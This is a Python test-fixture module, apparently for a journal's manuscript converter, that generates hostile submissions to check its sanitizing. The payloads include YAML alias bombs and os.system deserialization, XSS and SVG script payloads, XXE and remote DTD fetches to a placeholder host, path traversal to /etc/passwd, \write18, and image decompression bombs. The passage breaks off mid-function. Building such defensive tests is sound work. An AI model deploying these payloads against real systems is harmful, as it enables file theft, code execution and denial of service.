# ruff: noqa: E501
"""What a stranger may hand in to do harm: a manuscript each, made here; the large ones are never kept as files.

`{address}` in a text is a server that must never be asked, `{outside}` a folder that must never be read or written.
"""

from __future__ import annotations

import base64
import io
import json
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import lru_cache

FRONT = """title: {kk: Тақырыптама, ru: Заглавие, en: A title of it}
language: kk
"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40">{}</svg>'
DOT = ('<rect width="9" height="9"/>')
FIGURE = "Мәтін.\n\n![Сурет.]({}){{alt=\"Сурет\"}}\n"


@dataclass
class Input:
    """A hostile manuscript."""

    kind: str
    """Which class of harm it belongs to."""
    text: str = "Мәтін.\n"
    """The body of article.md."""
    front: str = ""
    """Further lines of its front matter."""
    files: dict[str, str | bytes | Callable[[], bytes]] = field(default_factory=dict)
    """Files by their paths below the article's folder; a large one is made when it is wanted."""
    links: dict[str, str] = field(default_factory=dict)
    """Symbolic links in the article's folder, and where they lead."""
    journal: dict[str, str | bytes] = field(default_factory=dict)
    """Files by their paths below the journal's folder."""
    whole: bytes | None = None
    """All of article.md, where it is not text with a front matter."""
    finding: str = ""
    """A part of what must be told, an id or words; empty where the harm is taken out without a word, being no harm any more."""
    absent: tuple[str, ...] = ()
    """What no output may hold."""
    seconds: int = 0
    """How long the journal lets pandoc read it, where that is not as usual."""


BRIEF = ("bibtex-chain deep-lists deep-brackets deep-links backticks many-inline-notes many-citations many-links "
         "many-list-items many-paragraphs").split()
"""Some of those that no time would be enough for. Each takes all it is given, so the journal gives them less; `deep-notes`,
`deep-brackets-apart`, `many-notes` and others like them are given what is usual."""


def png(width: int, height: int, data: bytes = b"", *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG with these numbers in its head and this in its body, whatever both are."""
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunk(*each) for each in chunks) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@lru_cache
def zeros(count: int) -> bytes:
    """So many bytes, packed."""
    packer = zlib.compressobj(1)
    part = bytes(1_000_000)
    return b"".join([*(packer.compress(part) for _ in range(count // len(part))), packer.flush()])


@lru_cache
def blank(width: int, height: int) -> bytes:
    """The body of a black picture."""
    packer = zlib.compressobj(1)
    row = bytes(width + 1)
    return b"".join([*(packer.compress(row) for _ in range(height)), packer.flush()])


def picture(kind: str, width: int = 40, height: int = 30, **how: object) -> bytes:
    """A picture that is one."""
    from PIL import Image

    target = io.BytesIO()
    Image.new("RGB", (width, height), "red").save(target, kind, **how)
    return target.getvalue()


def frames(kind: str, count: int) -> bytes:
    """An animation."""
    from PIL import Image

    target = io.BytesIO()
    first, *others = [Image.new("P" if kind == "GIF" else "RGB", (300, 300), number % 250) for number in range(count)]
    first.save(target, kind, save_all=True, append_images=others, duration=20)
    return target.getvalue()


def laughs(levels: int = 12, width: int = 10) -> str:
    """Groups that use one another: ten to the twelfth squares."""
    groups = [f'<g id="u0">{DOT}</g>'] + [f'<g id="u{n}">' + f'<use xlink:href="#u{n - 1}"/>' * width + "</g>" for n in range(1, levels)]
    return SVG.format(f"<defs>{''.join(groups)}</defs><use xlink:href=\"#u{levels - 1}\"/>")


def svg(body: str, before: str = "") -> dict[str, str | bytes]:
    """An SVG picture beside the article."""
    return {"figures/a.svg": before + SVG.format(body)}


def figure(body: str, before: str = "", **more: object) -> Input:
    """An article with one SVG picture."""
    return Input("SVG", FIGURE.format("figures/a.svg"), files=svg(body, before), **more)


def image(name: str, data: bytes | Callable[[], bytes], **more: object) -> Input:
    """An article with one picture."""
    return Input("pictures", FIGURE.format(name), files={name: data}, **more)


def bibliography(name: str, data: str | bytes, text: str = "Мәтін [@a].\n", **more: object) -> Input:
    """An article with one file of references."""
    return Input("references", text, files={name: data}, **more)


def html(raw: str, *absent: str, **more: object) -> Input:
    """An article with HTML in it."""
    return Input("HTML", f"Мәтін {raw} мәтін.\n\n{raw}\n", **{"finding": "SRC-013", **more}, absent=absent)


def everything() -> dict[str, Input]:
    """Every input by its name."""
    found = {}
    for part in (_yaml, _references, _pictures, _svg, _html, _links, _paths, _text, _bytes, _formulas, _templates):
        found |= part()
    for name in BRIEF:
        found[name].seconds = 3
    return found


def _yaml() -> dict[str, Input]:
    bomb = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}]\n" for n in range(1, 40))

    def yaml(front: str, finding: str, **more: object) -> Input:
        return Input("YAML", front=front, finding=finding, **more)

    return {
        "yaml-aliases": yaml(bomb, "SRC-007"),
        "yaml-alias-of-itself": yaml("x: &x [*x]\n", "SRC-007"),
        "yaml-merge": yaml("x: &x {a: b}\ny: {<<: *x}\n", "SRC-007"),
        "yaml-python-object": yaml("x: !!python/object/apply:os.system ['touch {outside}/made']\n", "SRC-"),
        "yaml-python-name": yaml("title: !!python/name:os.system\n", "SRC-"),
        "yaml-deep-flow": yaml("x: " + "[" * 100_000 + "\n", "SRC-"),
        "yaml-deep-pairs": yaml("x: " + "{a: " * 3_000 + "}" * 3_000 + "\n", "SRC-"),
        "yaml-deep-blocks": yaml("".join(" " * n + "a:\n" for n in range(1500)), "SRC-"),
        "yaml-long-key": yaml("? " + "k" * 200_000 + "\n: v\n", "SRC-"),
        "yaml-many-keys": yaml("".join(f"k{n}: v\n" for n in range(20_000)), "SRC-027"),
        "yaml-keys-within-the-limit": yaml("".join(f"k{n}: v\n" for n in range(4_900)), "SRC-003"),
        "yaml-endless-list": yaml("x: [" + "a," * 2_000_000 + "]\n", "SRC-001"),
        "yaml-keywords": yaml("keywords: {kk: [" + ",".join(f"k{n}" for n in range(20_000)) + "]}\n", "SRC-027"),
        "yaml-long-code": yaml("irsti: '" + "1." * 200_000 + "'\n", "SRC-027"),
        "yaml-long-title": yaml("running_title: {kk: '" + "а \u202e" * 1_100 + "'}\n", "SRC-027"),
        "yaml-brackets": yaml('abstract: {kk: "' + "([{" * 9_000 + '"}\n', "SRC-027"),
        "yaml-formula": yaml('abstract: {kk: "$' + "x^{ " * 600 + "x" + "}" * 600 + '$"}\n', "SRC-027"),
        "yaml-authors-misnamed": yaml("authors:\n" + "".join(
            f"  - {{name: {{kk: 'Мысалов, Ерлан {n}', en: 'Primerova, Anna {n}'}}, orcid: '0000'}}\n" for n in range(250)), "FM-"),
        "yaml-many-authors": yaml("authors:\n" + "".join(f"  - name: {{kk: А{n}}}\n" for n in range(5_000)), "people: "),
        "yaml-includes": yaml("include-in-header: {outside}/secret.txt\nheader-includes: \\input{{outside}/secret.txt}\n", "SRC-"),
        "yaml-filters": yaml("filters: [{outside}/filter.lua]\nlua-filter: x.lua\ntemplate: {outside}/secret.txt\n", "SRC-"),
        "yaml-csl-elsewhere": yaml("csl: {outside}/secret.csl\n", "SRC-"),
        "yaml-csl-remote": yaml("csl: {address}/style.csl\n", "SRC-"),
        "yaml-bibliography-elsewhere": yaml("bibliography: {outside}/secret.bib\n", "SRC-012"),
        "yaml-bibliography-remote": yaml("bibliography: '{address}/a.bib'\n", "SRC-012"),
        "yaml-bibliography-nul": yaml("bibliography: \"a\\0b.bib\"\n", "SRC-012"),
        "yaml-bibliography-device": yaml("bibliography: [/dev/zero, /proc/self/environ]\n", "SRC-012"),
        "yaml-bibliography-many": yaml("bibliography: [" + "a.bib, " * 20_000 + "a.bib]\n", "SRC-"),
        "yaml-controls": yaml("running_title: {kk: \"a\\x01\\x1b[2J\\x07b\"}\n", ""),
        "yaml-surrogate": yaml("running_title: {kk: \"\\ud800\"}\n", "SRC-"),
        "yaml-huge-number": yaml("dates: {received: " + "9" * 1_900 + "}\n", "SRC-004"),
        "yaml-larger-number": yaml("dates: {received: " + "9" * 10_000 + "}\n", "SRC-027"),
        "yaml-cover-elsewhere": yaml("cover: {outside}/secret.png\n", "SRC-"),
    }


def _references() -> dict[str, Input]:
    many = "".join(f"@book{{k{n}, title={{T{n}}}, author={{A, B}}, year=2001}}\n" for n in range(20_000))
    chain = "".join(f"@inbook{{k{n}, title={{T}}, crossref={{k{n + 1}}}}}\n" for n in range(4_000))
    strings = '@string{s0 = "xxxxxxxxxx"}\n' + "".join(
        f"@string{{s{n} = s{n - 1} # s{n - 1} # s{n - 1} # s{n - 1}}}\n" for n in range(1, 16)) + "@book{a, title = s15, year = 2001}\n"
    entry = {"id": "a", "type": "book", "title": "T"}
    return {
        "bibtex-strings": bibliography("a.bib", strings, finding="SRC-014"),
        "bibtex-circle": bibliography("a.bib", "@book{a, crossref={b}, title={T}}\n@book{b, crossref={a}, title={T}}\n", finding="REF-"),
        "bibtex-of-itself": bibliography("a.bib", "@book{a, crossref={a}, xdata={a}, title={T}}\n", finding="REF-"),
        "bibtex-chain": bibliography("a.bib", chain, "Мәтін [@k0].\n", finding="SRC-014"),
        "bibtex-many": bibliography("a.bib", many, "Мәтін [@k1].\n", finding="CIT-"),
        "bibtex-braces": bibliography("a.bib", "@book{a, title = " + "{" * 50_000 + "}" * 50_000 + "}\n", finding="REF-"),
        "bibtex-unclosed": bibliography("a.bib", "@book{a, title = {" * 5_000, finding="REF-"),
        "bibtex-long-field": bibliography("a.bib", "@book{a, title = {" + "слово " * 300_000 + "}}\n", finding="REF-"),
        "bibtex-input": bibliography("a.bib", "@book{a, title = {\\input{{outside}/secret.txt} \\include{/etc/passwd}}, year=2001}\n",
                                     finding="REF-"),
        "bibtex-javascript": bibliography("a.bib", "@online{a, title={T}, url={javascript:alert(1)}, doi={javascript:alert(2)}}\n",
                                          finding="REF-", absent=('href="javascript',)),
        "bibtex-html": bibliography("a.bib", "@book{a, title={<script>alert(1)</script>}, year=2001}\n", finding="REF-",
                                    absent=("<script>alert",)),
        "bibtex-key-path": bibliography("a.bib", "@book{../../../made, title={T}}\n@book{/etc/passwd, title={T}}\n",
                                        "Мәтін [@{../../../made}] [@{/etc/passwd}].\n", finding="REF-"),
        "bibtex-key-markup": bibliography("a.bib", "@book{a\"><script>, title={T}}\n", 'Мәтін [@{a"><script>}].\n', finding="-",
                                          absent=('"><script>',)),
        "bibtex-nul": bibliography("a.bib", b"@book{a, title={T\0}}\n", finding="SRC-009"),
        "bibtex-latin": bibliography("a.bib", b"@book{a, title={\xff\xfe\xfd}}\n", finding="SRC-009"),
        "ris-endless": bibliography("a.ris", "TY  - BOOK\n" + "AU  - A, B\n" * 50_000, finding="REF-"),
        "ris-many": bibliography("a.ris", "TY  - BOOK\nTI  - T\nER  - \n" * 30_000, finding="-"),
        "ris-remote": bibliography("a.ris", "TY  - ELEC\nID  - a\nTI  - T\nUR  - {address}/a\nL1  - file:///etc/passwd\nER  - \n",
                                   finding="REF-"),
        "json-nan": bibliography("a.json", '[{"id":"a","type":"book","title":"T","volume":NaN,"issue":Infinity}]', finding="REF-"),
        "json-huge-number": bibliography("a.json", '[{"id":"a","type":"book","title":"T","volume":' + "9" * 5_000 + "}]", finding="REF-"),
        "json-exponent": bibliography("a.json", '[{"id":"a","type":"book","title":"T","volume":1e400,"issue":1e999999999}]', finding="REF-"),
        "json-deep": bibliography("a.json", "[" * 200_000, finding="SRC-008"),
        "json-deep-whole": bibliography("a.json", "[" * 900 + "]" * 900, finding="-"),
        "json-surrogate": bibliography("a.json", '[{"id":"a","type":"book","title":"\\ud800"}]', finding="REF-"),
        "json-key-nul": bibliography("a.json", '[{"id":"a\\u0000","type":"book\\u0000","title":"T\\u0001"}]', finding="CIT-"),
        "json-no-words": bibliography("a.json", json.dumps([{**entry, "title": {"a": [1]}, "author": 7, "issued": "x", "note": [[]]}]),
                                      finding="REF-"),
        "json-long-dates": bibliography("a.json", json.dumps([{**entry, "issued": {"date-parts": [[10**12, -4, 99]] * 50}}]), finding="REF-"),
        "csl-yaml-aliases": bibliography("a.yaml", "references:\n- &a {id: a, title: T}\n- *a\n", finding="SRC-007"),
        "csl-yaml-object": bibliography("a.yaml", "references:\n- {id: a, title: !!python/object:os.x {}}\n", finding="REF-"),
        "references-symlink": Input("references", "Мәтін [@a].\n", links={"a.bib": "{outside}/secret.bib"}, finding="SRC-012"),
        "references-fifo-like": Input("references", "Мәтін [@a].\n", links={"a.bib": "/dev/zero"}, finding="CIT-"),
    }


def _pictures() -> dict[str, Input]:
    rng = random.Random(10)
    good = picture("PNG")
    text = ("Comment\0" + "x" * 20).encode()
    return {
        "png-many-pixels": image("a.png", png(60_000, 60_000, b""), finding="FIG-001"),
        "png-largest-numbers": image("a.png", png(2**31 - 1, 2**31 - 1), finding="FIG-001"),
        "png-bomb": image("a.png", lambda: png(30_000, 30_000, blank(30_000, 900)), finding="FIG-001"),
        "png-within-the-limit": image("a.png", lambda: png(7_000, 7_000, blank(7_000, 7_000)), finding=""),
        "png-nothing-wide": image("a.png", png(0, 10), finding="FIG-001"),
        "png-cut-short": image("a.png", good[:len(good) // 2], finding="FIG-001"),
        "png-without-body": image("a.png", png(100, 100), finding="FIG-001"),
        "png-text-bomb": image("a.png", lambda: png(2, 2, zlib.compress(bytes(6)), (b"zTXt", b"a\0\0" + zeros(300_000_000)),
                                            (b"tEXt", text)), finding=""),
        "png-profile-bomb": image("a.png", lambda: png(2, 2, zlib.compress(bytes(6)), (b"iCCP", b"a\0\0" + zeros(300_000_000))),
                                  finding=""),
        "png-noise": image("a.png", b"\x89PNG\r\n\x1a\n" + rng.randbytes(5_000), finding="FIG-001"),
        "jpeg-cut-short": image("a.jpg", picture("JPEG", 600, 400)[:700], finding="FIG-001"),
        "jpeg-large-head": image("a.jpg", picture("JPEG").replace(b"\x00\x1e\x00\x28", b"\xff\xff\xff\xff", 1), finding="FIG-001"),
        "jpeg-noise": image("a.jpg", b"\xff\xd8\xff\xe0" + rng.randbytes(3_000), finding="FIG-001"),
        "jpeg-broken-profile": image("a.jpg", picture("JPEG", icc_profile=rng.randbytes(900)), finding=""),
        "gif-large-screen": image("a.gif", b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;",
                                  finding="FIG-001"),
        "gif-frames": image("a.gif", lambda: frames("GIF", 400), finding=""),
        "webp-cut-short": image("a.webp", picture("WEBP", 300, 300)[:60], finding="FIG-001"),
        "webp-lying": image("a.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8X" + b"\x0a\0\0\0" + bytes(4) + b"\xff\xff\xff\xff\xff\xff",
                            finding="FIG-001"),
        "tiff": image("a.tif", picture("TIFF"), finding="FIG-001"),
        "eps": image("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch made) (w) file\nshowpage\n", finding="FIG-001"),
        "picture-is-a-script": image("a.png", b"#!/bin/sh\ntouch made\n", finding="FIG-001"),
        "picture-huge-file": image("a.png", good + bytes(21_000_000), finding="FIG-001"),
        "picture-empty": image("a.png", b"", finding="FIG-001"),
        "picture-symlink": Input("paths", FIGURE.format("a.png"), links={"a.png": "{outside}/secret.png"}, finding="FIG-001"),
        "picture-folder-symlink": Input("paths", FIGURE.format("figures/secret.png"), links={"figures": "{outside}"}, finding="FIG-001"),
        "picture-device": Input("paths", FIGURE.format("a.png"), links={"a.png": "/dev/zero"}, finding="FIG-001"),
        "picture-loop": Input("paths", FIGURE.format("a.png"), links={"a.png": "a.png"}, finding="FIG-001"),
        "picture-above": Input("paths", FIGURE.format("../../../../outside/secret.png"), finding="FIG-001"),
        "picture-above-hidden": Input("paths", FIGURE.format("%2e%2e/%2e%2e/%2e%2e/%2e%2e/outside/secret.png"), finding="FIG-001"),
        "picture-absolute": Input("paths", FIGURE.format("{outside}/secret.png"), finding="FIG-001"),
        "picture-file-address": Input("paths", FIGURE.format("file://{outside}/secret.png"), finding="FIG-001"),
        "picture-remote": Input("network", FIGURE.format("{address}/a.png"), finding="FIG-001", absent=('src="http',)),
        "picture-remote-short": Input("network", FIGURE.format("//127.0.0.1/a.png"), finding="FIG-001", absent=('src="//',)),
        "picture-nul": Input("paths", FIGURE.format("a%00.png"), finding="FIG-001"),
        "picture-long-name": Input("paths", FIGURE.format("a" * 5_000 + ".png"), finding="FIG-001"),
        "picture-data-bomb": Input("pictures", FIGURE.format(
            "data:image/png;base64," + base64.b64encode(png(30_000, 30_000, blank(30_000, 900))).decode()), finding="FIG-001"),
        "picture-data-html": Input("HTML", FIGURE.format("data:text/html;base64,PHNjcmlwdD4="), finding="FIG-001",
                                   absent=('src="data:text/html',)),
        "picture-video": Input("network", FIGURE.format("{address}/a.mp4") + "\n\nа ![б]({address}/b.webm) ![в](c.ogg){alt=\"в\"}\n",
                               files={"c.ogg": b"OggS"}, finding="FIG-001", absent=("<video", "<audio", 'src="http')),
        "picture-page": Input("network", FIGURE.format("{address}/a.pdf") + "\n\nа ![б]({address}/b.html) ![в](c.swf){alt=\"в\"}\n",
                              files={"c.swf": b"FWS"}, finding="FIG-001", absent=("<embed", "<object", "<iframe", 'src="http')),
        "pictures-many": Input("pictures", "".join(f"![С{n}.](a.png){{alt=\"С\"}}\n\n" for n in range(3_000)), files={"a.png": good},
                               finding="SRC-"),
        "pictures-many-large": Input("pictures", "".join(f"![С{n}.](a{n}.png){{alt=\"С\"}}\n\n" for n in range(30)),
                                     files={f"a{n}.png": lambda: png(9_000, 9_000, blank(9_000, 9_000)) for n in range(30)}, finding="FIG-001"),
    }


def _svg() -> dict[str, Input]:
    entities = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
    embedded = base64.b64encode(png(30_000, 30_000, blank(30_000, 900))).decode()
    return {
        "svg-turned-without-end": figure('<rect width="9" height="9" transform="' + "rotate(" * 30_000 + '"/>', finding="FIG-001"),
        "svg-letters": figure('<text x="' + "1 " * 150_000 + '">' + "a" * 150_000 + "</text>", finding="FIG-001"),
        "svg-rules": figure("<style>" + "".join(f".a{n} .b{{fill:red}}" for n in range(3_000)) + '</style><g class="a1">'
                            + '<rect class="b" width="9" height="9"/>' * 3_000 + "</g>", finding="FIG-001"),
        "svg-script": figure(f"<script>alert(1)</script>{DOT}", absent=("alert(1)",)),
        "svg-script-other-name": figure(f'<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>{DOT}', absent=("alert(1)",)),
        "svg-xhtml-script": figure(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>{DOT}', absent=("alert(1)",)),
        "svg-handler": figure('<rect width="9" height="9" onload="alert(1)" onclick="alert(1)"/>', absent=("alert(1)",)),
        "svg-link": figure(f'<a xlink:href="javascript:alert(1)">{DOT}</a>', absent=("alert(1)",)),
        "svg-animated-link": figure(f'<a>{DOT}<animate attributeName="href" values="javascript:alert(1)"/></a>', absent=("alert(1)",)),
        "svg-foreign": figure(f"<foreignObject><p xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'>x</p></foreignObject>{DOT}",
                              finding="FIG-", absent=("alert(1)",)),
        "svg-entities": figure("<text>&j;</text>", entities, finding="FIG-001"),
        "svg-quadratic": figure("<text>" + "&a;" * 50_000 + "</text>", f'<!DOCTYPE svg [<!ENTITY a "{"a" * 50_000}">]>', finding="FIG-001"),
        "svg-outer-entity": figure("<text>&a;</text>", '<!DOCTYPE svg [<!ENTITY a SYSTEM "file://{outside}/secret.txt">]>',
                                   finding="FIG-001"),
        "svg-parameter-entity": figure(DOT, '<!DOCTYPE svg [<!ENTITY % a SYSTEM "{address}/a.dtd"> %a;]>', finding="FIG-001"),
        "svg-dtd-remote": figure(DOT, '<!DOCTYPE svg SYSTEM "{address}/svg.dtd">'),
        "svg-xinclude": figure(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{{outside}}/secret.txt" parse="text"/>{DOT}',
                               finding="FIG-"),
        "svg-style-instruction": figure(DOT, '<?xml-stylesheet href="{address}/a.css"?>', absent=("xml-stylesheet",)),
        "svg-image-remote": figure(f'<image href="{{address}}/a.png" width="9" height="9"/>{DOT}', finding="FIG-",
                                   absent=("{address}/a.png",)),
        "svg-image-file": figure(f'<image xlink:href="file://{{outside}}/secret.png" width="9" height="9"/>{DOT}', finding="FIG-"),
        "svg-image-beside": figure(f'<image href="../../../../../outside/secret.png" width="9" height="9"/>{DOT}', finding="FIG-"),
        "svg-image-bomb": figure(f'<image href="data:image/png;base64,{embedded}" width="9" height="9"/>{DOT}', finding="FIG-"),
        "svg-image-svg": figure(f'<image href="data:image/svg+xml,&lt;svg onload=alert(1)/&gt;" width="9" height="9"/>{DOT}',
                                finding="FIG-", absent=("alert(1)",)),
        "svg-style-import": figure(f'<style>@import url("{{address}}/a.css");</style>{DOT}', finding="FIG-", absent=("{address}/a.css",)),
        "svg-style-import-hidden": figure(f'<style>@\\69mport "{{address}}/a.css";</style>{DOT}', finding="FIG-",
                                          absent=("{address}/a.css",)),
        "svg-style-address": figure(f'<style>rect{{{{fill:u\\72l({{address}}/a)}}}}</style>{DOT}'.replace("{{", "{").replace("}}", "}"),
                                    finding="FIG-", absent=("{address}/a",)),
        "svg-attribute-address": figure('<rect width="9" height="9" style="fill:URL({address}/a#b)"/>', finding="FIG-",
                                        absent=("{address}/a",)),
        "svg-use-remote": figure(f'<use href="{{address}}/a.svg#x"/>{DOT}', finding="FIG-"),
        "svg-laughs": Input("SVG", FIGURE.format("figures/a.svg"), files={"figures/a.svg": laughs()}, finding="FIG-001"),
        "svg-use-of-itself": figure('<g id="a"><use href="#a"/><rect width="3" height="3"/></g><use href="#a"/>', finding="FIG-001"),
        "svg-use-circle": figure('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>', finding="FIG-001"),
        "svg-patterns": figure('<defs><pattern id="a" width="1" height="1"><rect fill="url(#a)" width="9" height="9"/></pattern></defs>'
                               '<rect fill="url(#a)" width="9" height="9"/>', finding="FIG-001"),
        "svg-pattern-tiny": figure('<defs><pattern id="a" width="0.00001" height="0.00001" patternUnits="userSpaceOnUse">'
                                   '<rect width="9" height="9"/></pattern></defs><rect fill="url(#a)" width="60" height="40"/>'),
        "svg-masks": figure('<mask id="a" mask="url(#a)"><rect mask="url(#a)" width="9" height="9"/></mask>'
                            '<rect mask="url(#a)" width="9" height="9"/>', finding="FIG-001"),
        "svg-clips": figure('<clipPath id="a"><rect clip-path="url(#a)" width="9" height="9"/></clipPath>'
                            '<rect clip-path="url(#a)" width="9" height="9"/>', finding="FIG-001"),
        "svg-gradients": figure('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'
                                '<rect fill="url(#a)" width="9" height="9"/>', finding="FIG-001"),
        "svg-markers": figure('<marker id="a"><path d="M0 0L1 1" marker-start="url(#a)"/></marker>'
                              '<path d="M0 0L1 1" marker-start="url(#a)"/>', finding="FIG-001"),
        "svg-markers-many": figure('<marker id="a" markerWidth="3" markerHeight="3">' + DOT * 300 + '</marker><path marker-mid="url(#a)" d="'
                                   + "M0 0" + "L1 1" * 20_000 + '"/>', finding="FIG-001"),
        "svg-filter": figure('<filter id="f">' + '<feGaussianBlur stdDeviation="9999"/>' * 5_000
                             + '</filter><rect filter="url(#f)" width="9" height="9"/>'),
        "svg-filter-picture": figure('<filter id="f"><feImage href="{address}/a.png"/></filter>'
                                     '<rect filter="url(#f)" width="9" height="9"/>', finding="FIG-"),
        "svg-deep": figure("<g>" * 5_000 + DOT + "</g>" * 5_000, finding="FIG-001"),
        "svg-deep-enough": figure("<g>" * 240 + DOT + "</g>" * 240),
        "svg-many-elements": figure(DOT * 400_000, finding="FIG-001"),
        "svg-long-path": figure('<path d="M0 0' + "L1 1" * 1_500_000 + '"/>', finding="FIG-001"),
        "svg-dashes": figure('<path d="M0 0L99999999 9" stroke="red" stroke-dasharray="0.00001"/>'),
        "svg-huge": Input("SVG", FIGURE.format("figures/a.svg"), files={"figures/a.svg": SVG.replace('"60"', '"1e308"').format(DOT)},
                          finding=""),
        "svg-not-a-number": Input("SVG", FIGURE.format("figures/a.svg"),
                                  files={"figures/a.svg": SVG.replace('"60"', '"inf"').replace('"40"', '"nan"').format(DOT)}, finding=""),
        "svg-no-width": Input("SVG", FIGURE.format("figures/a.svg"),
                              files={"figures/a.svg": SVG.replace('"60"', '"-5"').replace('"40"', '"0"').format(DOT)}, finding=""),
        "svg-numbers": figure('<rect width="nan" height="1e999" x="&#xA0;"/><path d="M nan inf L"/><circle r="-1"/><text x="a,b" '
                              'font-size="1e9">x</text>', finding=""),
        "svg-transforms": figure('<g transform="matrix(0 0 0 0 0 0) scale(0) skewX(90) rotate(1e400) foo(">' + DOT + "</g>", finding=""),
        "svg-not-xml": figure("<g", finding="FIG-001"),
        "svg-utf-7": Input("SVG", FIGURE.format("figures/a.svg"), finding="FIG-001",
                           files={"figures/a.svg": '<?xml version="1.0" encoding="UTF-7"?>+ADw-svg+AD4-'}),
        "svg-utf-16": Input("SVG", FIGURE.format("figures/a.svg"), absent=("alert(1)",), finding="",
                            files={"figures/a.svg": SVG.format(f"<script>alert(1)</script>{DOT}").encode("utf-16")}),
        "svg-zipped": Input("SVG", FIGURE.format("figures/a.svg"), finding="FIG-001", files={
            "figures/a.svg": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + zlib.compress(bytes(10_000_000))}),
        "svg-font": figure('<style>@font-face{font-family:a;src:url({address}/a.woff)}</style><text font-family="a" y="9">x</text>',
                           finding="FIG-", absent=("{address}/a.woff",)),
    }


def _html() -> dict[str, Input]:
    return {
        "html-script": html("<script>alert(1)</script>", "alert(1)</script>", "<script>alert"),
        "html-script-remote": html('<script src="{address}/a.js"></script>', 'src="{address}'),
        "html-handler": html('<img src="x" onerror="alert(1)">', 'onerror="alert'),
        "html-svg": html('<svg onload="alert(1)"><script>alert(1)</script></svg>', '<svg onload'),
        "html-math": html('<math><mtext><img src=x onerror=alert(1)></mtext></math>', "<img src=x"),
        "html-iframe": html('<iframe src="file:///etc/passwd" srcdoc="&lt;script>"></iframe>', "<iframe"),
        "html-object": html('<object data="file:///etc/passwd"></object><embed src="a.swf">', "<object", "<embed"),
        "html-form": html('<form action="{address}"><input name="a" autofocus onfocus="alert(1)"></form>', "<form", "<input"),
        "html-link": html('<link rel="stylesheet" href="{address}/a.css"><link rel="attachment" href="file://{outside}/secret.txt">',
                          '{address}/a.css"'),
        "html-style": html('<style>@import url({address}/a.css); body{background:url({address}/b)}</style>', "<style>@import"),
        "html-base": html('<base href="{address}/">', "<base"),
        "html-meta": html('<meta http-equiv="refresh" content="0;url={address}/">', 'content="0;url'),
        "html-anchor": html('<a href="javascript:alert(1)">x</a>', 'href="javascript'),
        "html-anchor-hidden": html('<a href="&#106;ava&#x09;script:alert(1)">x</a>', 'href="java'),
        "html-video": html('<video src="{address}/a.mp4" poster="{address}/b"></video><audio src="{address}/c"></audio>', "<video", "<audio"),
        "html-div": html('<div style="background:url({address}/a)">x</div>', "{address}/a)"),
        "html-comment": html("<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--[if IE", finding=""),
        "html-cdata": html("<![CDATA[<script>alert(1)</script>]]>", "<script>alert"),
        "html-instruction": html("<?xml-stylesheet href='{address}/a.css'?><?php system('touch made') ?>", "<?php"),
        "html-unclosed": html("<img src='x' onerror='alert(1)' ", "<img src='x'", finding=""),
        "html-template": html("<template><script>alert(1)</script></template>", "<template"),
        "raw-tex": Input("HTML", "Мәтін \\input{{outside}/secret.txt} \\write18{touch made}\n", finding="SRC-013"),
        "raw-attribute": Input("HTML", "Мәтін `<script>alert(1)</script>`{=html}\n\n```{=html}\n<script>alert(2)</script>\n```\n\n"
                               "```{=openxml}\n<w:p/>\n```\n", finding="SRC-013", absent=("<script>alert",)),
        "attributes": Input("HTML", '[а]{onclick="alert(1)" style="background:url({address}/a)" srcdoc="x"}\n\n'
                            '## Тақырып {#x onclick="alert(1)" style="position:fixed"}\n\n'
                            '``` {.js onload="alert(1)" style="background:url({address}/b)"}\nx\n```\n\n'
                            '::: {.a onclick="alert(1)" style="background:url({address}/c)"}\nа\n:::\n',
                            absent=('"onclick="alert', ' onclick="alert', ' onload="alert', "url({address}", "position:fixed")),
        "attribute-of-a-picture": Input("HTML", '![С.](a.png){alt="С" onerror="alert(1)" style="background:url({address}/d)" width="9e9%" '
                                        'height="99999999px" srcset="{address}/e 2x"}\n', files={"a.png": picture("PNG")},
                                        absent=("onerror=", "{address}/d", "{address}/e")),
        "id-markup": Input("HTML", "## Тақырып {#a\"onclick=alert(1)>}\n\n## Тақырып {id='\"><script>'}\n", absent=('id="a"onclick=', 'id=""><script')),
        "title-markup": Input("HTML", front="running_title: {kk: \"<script>alert(1)</script>\"}\n"
                              "abstract: {kk: \"<img src=x onerror=alert(1)>\", ru: \"</script><script>alert(2)</script>\"}\n"
                              "keywords: {kk: [\"</title><script>alert(3)</script>\", \"]]>\", \"--><script>\"]}\n",
                              finding="SRC-013", absent=("<script>alert(", "<img src=x")),
        "author-markup": Input("HTML", front="authors:\n- name: {kk: \"<script>alert(1)</script>\", en: \"\\\"><script>alert(1)</script>\"}\n"
                               "  email: \"a@b.c\\\"><script>alert(1)</script>\"\n  orcid: \"javascript:alert(1)\"\n",
                               finding="FM-", absent=("<script>alert(",)),
        "doi-markup": Input("HTML", front="doi: \"10.5555/\\\"><script>alert(1)</script>\"\n", absent=("<script>alert(",)),
    }


def _links() -> dict[str, Input]:
    targets = {
